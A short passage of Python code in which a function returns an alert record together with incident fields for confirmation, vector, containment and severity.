    return {"alert": text, "source": source}, {
        "confirmed": confirmed, "vector": vector, "containment": containment, "severity": severity}
